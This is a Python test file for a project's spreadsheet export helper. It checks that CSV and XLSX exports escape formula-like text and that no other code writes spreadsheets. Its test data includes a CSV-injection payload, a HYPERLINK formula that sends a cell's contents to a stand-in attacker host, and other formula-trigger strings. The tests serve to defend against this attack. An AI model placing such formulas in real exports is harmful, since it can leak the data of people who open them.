"""Exports cannot carry live formulas (SEC-9, OWASP CSV injection): one helper writes every
spreadsheet, and no other code writes one of its own."""

import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from anxin.core.spreadsheets import FORMULA_TRIGGERS, CsvWriter, XlsxWriter, escape

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&F2,"点此")',
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.req("SEC-9")
@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert escape(text) == "'" + text


@pytest.mark.req("SEC-9")
@pytest.mark.parametrize("value", ["教师", "13812345678", "", None, -5, -12.5, Decimal("-3.20")])
def test_other_values_are_written_as_they_are(value):
    assert escape(value) == value


@pytest.mark.req("SEC-9")
@pytest.mark.parametrize("streamed", [True, False])
def test_an_xlsx_holds_hostile_text_as_inert_strings_and_numbers_as_numbers(streamed):
    book = XlsxWriter(streamed=streamed)
    book.sheet("data").append([*HOSTILE, -12.5, 7])
    row = next(load_workbook(io.BytesIO(book.to_bytes())).active.iter_rows(min_row=1))
    texts, numbers = row[: len(HOSTILE)], row[len(HOSTILE) :]
    for cell, text in zip(texts, HOSTILE, strict=True):
        # (XML reads a carriage return back as a line feed)
        assert cell.data_type == "s" and cell.value == "'" + text.replace("\r", "\n")
        assert not cell.value.startswith(FORMULA_TRIGGERS)
    assert [(c.data_type, c.value) for c in numbers] == [("n", -12.5), ("n", 7)]


@pytest.mark.req("SEC-9")
def test_a_csv_quotes_hostile_text():
    writer = CsvWriter()
    writer.writerows([["code", "occupation"], ["KH1", HOSTILE[0]], ["KH2", -1]])
    lines = writer.stream.getvalue().splitlines()
    assert lines[1].startswith("KH1,\"'=HYPERLINK(") and lines[2] == "KH2,-1"


# Creating a workbook or a CSV writer; reading one (``load_workbook``) is fine anywhere.
WRITERS = re.compile(
    r"\bWorkbook\s*\(|WriteOnlyCell|\bcsv\s*\.\s*(writer|DictWriter)\b|xlsxwriter|\bxlwt\b"
)


@pytest.mark.req("SEC-9")
def test_no_code_writes_a_spreadsheet_except_through_the_helper():
    package = Path(__file__).resolve().parents[2]
    helper = package / "core" / "spreadsheets.py"
    offenders = [
        f"{path.relative_to(package)}:{number}: {line.strip()}"
        for path in sorted(package.rglob("*.py"))
        if path != helper and "tests" not in path.relative_to(package).parts
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITERS.search(line)
    ]
    assert offenders == [], "write spreadsheets with anxin.core.spreadsheets:\n" + "\n".join(
        offenders
    )
